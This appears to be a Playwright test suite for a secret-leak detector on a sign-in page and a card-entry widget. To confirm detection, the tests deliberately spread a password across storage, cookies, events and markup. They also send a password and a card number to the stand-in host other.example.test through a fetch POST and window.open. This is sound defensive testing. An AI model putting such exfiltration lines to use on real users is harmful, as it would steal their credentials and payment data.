import type { Page } from '@playwright/test';
import { expect, type Fixtures, test } from './fixtures';
import { watchFlow } from './flowSecrets';
import { configBlock, loaderTag, mountTag } from './hostPage';
import { mountPoint } from './page';

// The flows expect that no secret leaks. Here, secrets do.

const secret = 'Secret-w0rd';

/** Opens the sign-in on a page without a policy, which would block the leaks to other origins. */
async function openSignIn(page: Page, { demo, openHostPage }: Pick<Fixtures, 'demo' | 'openHostPage'>) {
  await openHostPage(configBlock(demo) + mountTag('auth') + loaderTag(demo), { path: '/en/host-page' });
  const auth = mountPoint(page, 'auth');
  return {
    auth,
    username: auth.getByLabel('Username or email'),
    password: auth.getByLabel('Password', { exact: true }),
  };
}

test('a typed password is found in each place that it leaks to (J1)', async ({ page, context, demo, openHostPage }) => {
  await context.route('https://other.example.test/**', (route) => route.fulfill({ body: '' }));
  const findLeaks = await watchFlow(context, demo);
  const { auth, username, password } = await openSignIn(page, { demo, openHostPage });
  await password.fill(secret);
  await username.focus();
  expect(await findLeaks(page)).toEqual([]);

  await auth.evaluate(async (element, text) => {
    history.replaceState({ text }, '', `?text=${text}`);
    Object.assign(document, { title: text, cookie: `text=${text}` });
    Object.assign(window, { name: text });
    localStorage.setItem('text', text);
    sessionStorage.setItem('text', text);
    (window as unknown as { dataLayer: unknown[] }).dataLayer.push({ text });
    for (const name of ['widgets:analytics', 'widgets:login-status'])
      document.dispatchEvent(new CustomEvent(name, { detail: { text } }));
    element.append(text, Object.assign(document.createElement('input'), { type: 'hidden', value: text }));
    console.info(text);
    await fetch(`/?text=${text}`);
    await fetch('https://other.example.test/', {
      method: 'POST',
      mode: 'no-cors',
      referrerPolicy: 'unsafe-url',
      body: text,
    });
  }, secret);
  const places = (await findLeaks(page)).map((line) => line.split(': ')[0]);
  expect([...new Set(places)].sort()).toEqual([
    'accessibility tree',
    'address',
    'address of a request',
    'analytics',
    'body of a request to another origin',
    'console',
    'cookies',
    'data layer',
    'event',
    'hidden field',
    'history.state',
    'local storage',
    'markup',
    'referrer',
    'session storage',
    'title',
    'window.name',
  ]);
});

test('a typed number that the services never receive is found in the address of another site (J1)', async ({
  page,
  context,
  demo,
  openHostPage,
}) => {
  await context.route('https://other.example.test/**', (route) => route.fulfill({ body: '' }));
  const findLeaks = await watchFlow(context, demo);
  await openHostPage(configBlock(demo) + mountTag('svc-query') + loaderTag(demo), { path: '/en/host-page' });
  const cardNumber = '7310180000000001';
  const widget = mountPoint(page, 'svc-query');
  await widget.getByLabel('Card number').fill(cardNumber);
  await widget.getByLabel('PIN', { exact: true }).focus();
  expect(await findLeaks(page)).toEqual([]);
  const opened = context.waitForEvent('page');
  await page.evaluate((number) => void window.open(`https://other.example.test/?card=${number}`), cardNumber);
  await (await opened).waitForLoadState();
  expect(await findLeaks(page)).toContainEqual(expect.stringMatching(/^address of a request: 7310180000000001/));
});

test('a password that the accessibility tree holds after one step is found, also when the page is closed (J1)', async ({
  page,
  context,
  demo,
  openHostPage,
}) => {
  const findLeaks = await watchFlow(context, demo);
  const { auth, username, password } = await openSignIn(page, { demo, openHostPage });
  await password.fill(secret);
  await auth.evaluate((element, text) => element.append(text), secret);
  await username.click();
  // This page has no secret: only the trees after the steps of the other page do.
  const blank = await context.newPage();
  const isInTree = expect.stringMatching(/^accessibility tree: Secret-w0rd/);
  await expect.poll(() => findLeaks(blank)).toContainEqual(isInTree);
  await page.close();
  expect(await findLeaks(page)).toContainEqual(isInTree);
});

test('a visitor who has filled in a field must have secrets', async ({ page, context, demo, openHostPage }) => {
  const findLeaks = await watchFlow(context, demo);
  const { username, password } = await openSignIn(page, { demo, openHostPage });
  await username.fill('mei');
  await password.focus();
  await expect(findLeaks(page)).rejects.toThrow('the secrets of a visitor who has filled in a field');
});
